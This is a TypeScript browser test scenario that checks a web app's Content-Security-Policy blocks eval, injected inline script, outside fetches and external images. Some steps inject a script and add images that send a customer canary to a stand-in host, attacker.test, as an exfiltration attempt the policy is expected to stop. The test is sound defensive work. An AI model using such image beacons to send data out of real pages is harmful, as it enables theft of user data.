/**
 * OUT-09 on the built app: the Content-Security-Policy is there and the browser enforces it,
 * and PI-02's second layer: an external image put straight into the DOM (as if the renderer's
 * filter were gone) is blocked by `img-src` with a violation, and never requested.
 */
import assert from 'node:assert/strict';
import { CANARIES } from '../fakes/evil-payloads.js';
import { until } from './app-page.js';
import type { Scenario } from './harness.js';
import { SecurityLab } from './security-lab.js';

/** The smallest WebAssembly module: the magic number and version 1. */
const MINIMAL_WASM = [0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00];

/** See the module comment. */
export const OUT09_SCENARIO: Scenario = {
  name: 'security OUT-09, PI-02 second layer: the CSP is present and enforced (eval, inline script, WebAssembly, connect-src, img-src)',
  async run({ browser }) {
    const lab = await SecurityLab.open(browser, '', []);
    const page = lab.app.page;
    try {
      const policy = await page.evaluate(
        () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
      );
      assert.match(policy, /script-src 'self' 'wasm-unsafe-eval'(;|$)/);
      assert.match(policy, /img-src 'self' data: blob:(;|$)/);
      assert.match(policy, /connect-src 'self'/);

      // Code Playwright evaluates is exempt from the page's policy, so eval is tried from a timer task.
      const evaluated = await page.evaluate(
        () =>
          new Promise<string>((resolve) =>
            setTimeout(() => {
              try {
                resolve(`ran: ${String((0, eval)('1'))}`);
              } catch (error) {
                resolve(error instanceof Error ? error.name : String(error));
              }
            }, 0),
          ),
      );
      assert.equal(evaluated, 'EvalError');

      await page.evaluate(() => {
        const script = document.createElement('script');
        script.textContent = 'window.__pwn = 1';
        document.body.append(script);
      });
      await until('a script-src violation', async () =>
        (await lab.violations()).some((violation) => /^script-src/.test(violation.violatedDirective)),
      );

      const compiled = await page.evaluate(
        (bytes) =>
          WebAssembly.instantiate(new Uint8Array(bytes)).then(
            () => 'instantiated',
            (error: unknown) => String(error),
          ),
        MINIMAL_WASM,
      );
      assert.equal(compiled, 'instantiated');

      const fetched = await page.evaluate(() =>
        fetch('https://example.com/').then(
          () => 'fetched',
          (error: unknown) => (error instanceof Error ? error.name : String(error)),
        ),
      );
      assert.equal(fetched, 'TypeError');
      await until('a connect-src violation', async () =>
        (await lab.violations()).some(
          (violation) => violation.effectiveDirective === 'connect-src' && violation.blockedURI.includes('example.com'),
        ),
      );

      await page.evaluate(() => {
        new Image().src = 'https://attacker.test/x';
      });
      await until('an img-src violation for new Image()', async () =>
        (await lab.violations()).some(
          (violation) => violation.effectiveDirective === 'img-src' && violation.blockedURI.includes('attacker.test/x'),
        ),
      );

      await page.evaluate((canary) => {
        const image = document.createElement('img');
        image.src = `https://attacker.test/p.png?q=${canary}`;
        document.querySelector('main')?.append(image);
      }, CANARIES.customer);
      await until('an img-src violation for an <img> in the DOM', async () =>
        (await lab.violations()).some(
          (violation) =>
            violation.effectiveDirective === 'img-src' && violation.blockedURI.includes('attacker.test/p.png'),
        ),
      );

      const blockedAttacker = () => lab.requests.filter((request) => request.url.includes('attacker.test')).length;
      await until(
        'the policy to fail every request to the attacker',
        async () => lab.blocked.filter((item) => item.url.includes('attacker.test')).length === blockedAttacker(),
      );
      assert.equal(await page.evaluate(() => (window as unknown as Record<string, unknown>).__pwn), undefined);
      assert.deepEqual(lab.aborted, [], 'requests reached the attacker');
      assert.deepEqual(lab.foreign(), [], 'requests left the machine');
      assert.deepEqual(lab.dialogs, []);
    } finally {
      await lab.close();
    }
  },
};
